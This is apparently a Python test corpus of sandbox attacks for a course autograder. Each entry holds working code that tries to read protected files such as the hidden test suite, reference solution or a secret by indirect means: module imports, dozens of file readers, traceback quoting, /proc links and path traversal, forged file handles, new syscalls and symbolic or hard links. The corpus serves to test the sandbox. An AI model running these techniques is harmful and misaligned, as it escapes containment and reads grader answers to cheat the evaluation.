"""Attacks that want to read such files in other ways than by opening them: importers, other readers, links, new calls."""

from __future__ import annotations

from attacks.corpus import Attack, tries

ATTACKS = [
    Attack(
        "import_graders",
        "imports the grader, pytest, the suite and the reference",
        tries("""
            import importlib, importlib.util, os, sys

            def by_path(path):
                spec = importlib.util.spec_from_file_location('kit_attack', path)
                module = importlib.util.module_from_spec(spec)
                spec.loader.exec_module(module)
                return module.PLANTED

            attempt('reference', lambda: by_path('@COURSE@/reference/layer_norm.py'))
            sys.path += ['@COURSE@', '@COURSE@/reference', '@COURSE@/tests/suites/week08', '@KIT@']
            for name in ('autograder', 'autograder.sandbox'):
                for up in ('@KIT@', '@COURSE@/..'):
                    attempt(name, lambda: sys.modules[name].__path__.append(f"{up}/{name.replace('.', '/')}"))
            for name in ('autograder.grading.run', 'autograder.suite.checking', 'autograder.sandbox.host.zygote', 'autograder.cli',
                         'pytest', '_pytest.reports', 'test_layer_norm', 'reference.layer_norm', 'conftest'):
                attempt(name, lambda: importlib.import_module(name).__file__)
            sys.path[-4:] = []
        """),
    ),
    Attack(
        "many_readers",
        "reads a file with every reader of the libraries, down to C's own",
        tries("""
            import codecs, configparser, ctypes, fileinput, gzip, importlib.machinery, io, json, linecache, lzma, mmap
            import os, pathlib, runpy, shutil, sqlite3, sys, tarfile, tokenize, zipfile
            import numpy, torch
            path, libc = '@SECRET@', ctypes.CDLL(None)
            libc.fopen.restype = ctypes.c_void_p

            def refused(act):  # readers of formats: the text is of a wrong form, so they must have read it
                try:
                    act()
                except OSError:
                    return False
                except (ValueError, zipfile.BadZipFile, tarfile.TarError, configparser.Error, sqlite3.DatabaseError, SyntaxError) as e:
                    return 'unable to open' not in str(e) and 'not found' not in str(e) and type(e).__name__
                return True

            attempt('mmap', lambda: mmap.mmap(os.open(path, os.O_RDONLY), 0, prot=mmap.PROT_READ)[:])
            attempt('memmap', lambda: numpy.memmap(path, mode='r').tobytes())
            attempt('fromfile', lambda: numpy.fromfile(path, numpy.uint8).tobytes())
            attempt('genfromtxt', lambda: str(numpy.genfromtxt(path, str)))
            attempt('from_file', lambda: bytes(torch.from_file(path, size=20, dtype=torch.uint8).numpy()))
            attempt('storage', lambda: bytes(torch.UntypedStorage.from_file(path, False, 20)))
            attempt('linecache', lambda: linecache.getline(path, 1))
            attempt('fileinput', lambda: list(fileinput.input(path)))
            attempt('codecs', lambda: codecs.open(path).read())
            attempt('FileIO', lambda: io.FileIO(path).readall())
            attempt('open_code', lambda: io.open_code(path).read())
            attempt('tokenize', lambda: tokenize.open(path).read())
            attempt('pathlib', lambda: pathlib.Path(path).read_bytes())
            attempt('loader', lambda: importlib.machinery.SourceFileLoader('kit_attack', path).get_data(path))
            attempt('copyfile', lambda: shutil.copyfile(path, '/dev/null'))
            attempt('fopen', lambda: libc.fopen(path.encode(), b'r'))
            attempt('sendfile', lambda: os.sendfile(1, os.open(path, os.O_RDONLY), 0, 40))
            attempt('zipfile', lambda: refused(lambda: zipfile.ZipFile(path)))
            attempt('tarfile', lambda: refused(lambda: tarfile.open(path)))
            attempt('configparser', lambda: refused(lambda: configparser.ConfigParser().read_file(open(path))))
            attempt('runpy', lambda: refused(lambda: runpy.run_path(path)))
            attempt('sqlite', lambda: refused(lambda: sqlite3.connect(f'file:{path}?mode=ro', uri=True).execute('pragma user_version').fetchall() and sqlite3.connect(f'file:{path}?mode=ro', uri=True).execute('select * from sqlite_master').fetchall()))
        """),
    ),
    Attack(
        "quoted_by_a_traceback",
        "lets a traceback quote the lines of the hidden suite",
        tries("""
            import io, sys, traceback
            path = '@COURSE@/tests/suites/week08/test_layer_norm.py'

            def quoted(line):
                try:
                    exec(compile('\\n' * (line - 1) + 'raise ValueError', path, 'exec'), {'__file__': path})
                except ValueError:
                    said, sys.stderr = sys.stderr, io.StringIO()
                    sys.__excepthook__(*sys.exc_info())
                    said, sys.stderr = sys.stderr.getvalue(), said
                    said += traceback.format_exc()
                    return [text for text in said.splitlines() if 'agree' in text or 'def test' in text]

            for line in range(1, 60):
                attempt(line, lambda: quoted(line))
        """),
    ),
    Attack(
        "roundabout_paths",
        "goes to a file by way of links in /proc, dots, and folders that processes stand in",
        tries("""
            import os
            path = '@SECRET@'
            for pid in ['self', 'thread-self', *others()[:40]]:
                for way in ('root', 'cwd', 'task/1/root'):
                    attempt((pid, way), lambda: open(f'/proc/{pid}/{way}{path}').read())
                    attempt((pid, way, 'list'), lambda: pid != 'self' and os.listdir(f'/proc/{pid}/{way}/root'))
            for start in ('', '/', '/proc/', '/dev/', os.path.dirname(os.__file__) + '/'):
                attempt(start, lambda: open(start + '../' * 40 + path.lstrip('/')).read())
            attempt('chroot', lambda: os.chroot('.') is None and open('../' * 40 + path).read())
        """),
    ),
    Attack(
        "file_handles",
        "opens files by handles made up from inode numbers, past all paths",
        tries("""
            import ctypes, os, struct
            libc = ctypes.CDLL(None, use_errno=True)
            at_here = -100

            def real():
                handle, mount = ctypes.create_string_buffer(struct.pack('Ii', 128, 0), 136), ctypes.c_int()
                if libc.name_to_handle_at(at_here, b'@SECRET@', handle, ctypes.byref(mount), 0):
                    return -1
                return os.read(libc.open_by_handle_at(os.open('/tmp', os.O_RDONLY), handle, 0), 60)

            def made_up(inode, length):
                body = struct.pack('II', inode, 0) if length == 8 else struct.pack('IIIII', inode, 0, 0, 0, 0)
                return libc.open_by_handle_at(at_here, ctypes.create_string_buffer(struct.pack('Ii', length, 1) + body), 0)

            attempt('real', real)
            for inode in (1, 2, 128, 256):
                attempt(inode, lambda: made_up(inode, 8))
        """),
    ),
    Attack(
        "newer_calls",
        "opens a file by calls newer than most filters: openat2, io_uring, open_tree, fsopen",
        tries("""
            import ctypes, os, struct
            libc = ctypes.CDLL(None, use_errno=True)
            how = ctypes.create_string_buffer(struct.pack('QQQ', os.O_RDONLY, 0, 0))
            room = ctypes.create_string_buffer(256)
            attempt('openat2', lambda: os.read(libc.syscall(437, -100, b'@SECRET@', how, ctypes.c_size_t(24)), 60))
            attempt('io_uring', lambda: libc.syscall(425, 4, room))
            attempt('open_tree', lambda: libc.syscall(428, -100, b'/', 1))
            attempt('fsopen', lambda: libc.syscall(430, b'proc', 0))
            attempt('fspick', lambda: libc.syscall(433, -100, b'/', 0))
            attempt('statmount', lambda: libc.syscall(458, ctypes.create_string_buffer(struct.pack('IIQQ', 24, 0, 0xFFFFFFFFFFFFFFFF, 0)), room, 8, 0))
            attempt('memfd_secret', lambda: libc.syscall(447, 0))
        """),
    ),
    Attack(
        "by_a_link",
        "makes symbolic and hard links to a file and reads through them",
        tries("""
            import os
            for folder in ('/tmp', '/dev/shm', '/var/tmp', '.', os.path.dirname(os.__file__)):
                for make in (os.symlink, os.link):
                    link = f'{folder}/kit_attack_{make.__name__}'
                    attempt((folder, make.__name__), lambda: make('@SECRET@', link) or open(link).read())
                    attempt((folder, 'made'), lambda: os.path.lexists(link))
                    try:
                        os.unlink(link)
                    except OSError:
                        pass
        """),
    ),
]
